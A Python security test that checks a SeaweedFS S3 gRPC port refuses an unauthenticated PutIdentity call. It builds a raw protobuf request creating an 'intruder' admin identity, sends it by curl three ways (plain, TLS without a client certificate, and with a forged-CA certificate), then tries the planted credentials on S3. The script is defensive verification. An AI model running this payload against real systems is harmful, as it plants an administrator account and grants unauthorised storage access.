"""Attack on SeaweedFS's S3 gRPC port for the data scenario, from outside the container.

SeaweedS3IamCache/PutIdentity, unauthenticated without mutual TLS, gives the caller an identity with
every right. Sent three ways (plain HTTP/2, TLS without a client certificate, TLS with a certificate
of another CA with the right common name), each must be refused; then the identity it would have
made must not work on S3. A read-only call with the role's own certificate shows the port and the
method are there (the refusals are not a dead port). Prints one JSON object.
Environment: GRPC_ADDRESS (host:port), S3_ENDPOINT, GRPC_DIR (the role's certificates).
"""

import json
import os
import struct
import subprocess
import sys
import tempfile

import boto3
from botocore.client import Config
from botocore.exceptions import ClientError

INTRUDER_KEY = 'INTRUDERKEY000000001'
INTRUDER_SECRET = 'intruder-secret-key-000000000000000000000'
SERVICE = 'messaging_pb.SeaweedS3IamCache'


def field(number, payload):
    """A length-delimited protobuf field."""
    length, varint = len(payload), b''
    while True:
        byte, length = length & 0x7F, length >> 7
        varint += bytes([byte | (0x80 if length else 0)])
        if not length:
            return bytes([(number << 3) | 2]) + varint + payload


def grpc_frame(message):
    return b'\x00' + struct.pack('>I', len(message)) + message


def put_identity_request():
    # iam_pb.Identity: name = 1, credentials = 2 (access_key = 1, secret_key = 2), actions = 3
    credential = field(1, INTRUDER_KEY.encode()) + field(2, INTRUDER_SECRET.encode())
    identity = field(1, b'intruder') + field(2, credential) + field(3, b'Admin')
    return grpc_frame(field(1, identity))


def call(method, body, tls=None):
    """curl's answer: the grpc-status header, or the error that ended the call. tls: None for plain HTTP/2."""
    host, port = os.environ['GRPC_ADDRESS'].rsplit(':', 1)
    if tls is None:
        transport, url = ['--http2-prior-knowledge'], 'http://%s:%s' % (host, port)
    else:  # the name in the role's certificate, at the container's address
        transport, url = ['--http2', '--resolve', 'seaweedfs:%s:%s' % (port, host)] + tls, 'https://seaweedfs:' + port
    with tempfile.NamedTemporaryFile() as request:
        request.write(body)
        request.flush()
        argv = ['curl', '-sS', '-m', '10', '-o', '/dev/null', '-D', '-', '--data-binary', '@' + request.name]
        argv += ['-H', 'content-type: application/grpc', '-H', 'te: trailers'] + transport
        done = subprocess.run(argv + ['%s/%s/%s' % (url, SERVICE, method)], capture_output=True, text=True, check=False)
    for line in done.stdout.splitlines():
        if line.lower().startswith('grpc-status:'):
            return 'grpc-status ' + line.split(':', 1)[1].strip()
    return 'refused: ' + (done.stderr.strip().splitlines() or ['no answer'])[-1]


def foreign_certificate(directory):
    """A certificate with the right common name, signed by nobody the server trusts."""
    key, cert = os.path.join(directory, 'foreign.key'), os.path.join(directory, 'foreign.crt')
    subprocess.run(
        [
            'openssl',
            'req',
            '-x509',
            '-newkey',
            'ec',
            '-pkeyopt',
            'ec_paramgen_curve:P-256',
            '-nodes',
            '-keyout',
            key,
            '-out',
            cert,
            '-days',
            '1',
            '-subj',
            '/CN=seaweedfs',
        ],
        check=True,
        capture_output=True,
    )
    return ['--cert', cert, '--key', key]


def main():
    grpc_dir = os.environ['GRPC_DIR']
    own = [
        '--cacert',
        grpc_dir + '/ca.crt',
        '--cert',
        grpc_dir + '/seaweedfs.crt',
        '--key',
        grpc_dir + '/seaweedfs.key',
    ]
    attack = put_identity_request()
    with tempfile.TemporaryDirectory() as scratch:
        result = {
            'plain': call('PutIdentity', attack, None),
            'tls_without_certificate': call('PutIdentity', attack, ['-k']),
            'tls_foreign_certificate': call('PutIdentity', attack, ['-k'] + foreign_certificate(scratch)),
            'own_certificate_read': call('ListPolicies', grpc_frame(b''), own),
        }
    s3 = boto3.client(
        's3',
        endpoint_url=os.environ['S3_ENDPOINT'],
        aws_access_key_id=INTRUDER_KEY,
        aws_secret_access_key=INTRUDER_SECRET,
        region_name='us-east-1',
        config=Config(s3={'addressing_style': 'path'}, signature_version='s3v4'),
    )
    try:
        result['intruder_buckets'] = [bucket['Name'] for bucket in s3.list_buckets()['Buckets']]
    except ClientError as exc:
        result['intruder_buckets'] = exc.response['Error']['Code']
    json.dump(result, sys.stdout)


if __name__ == '__main__':
    main()
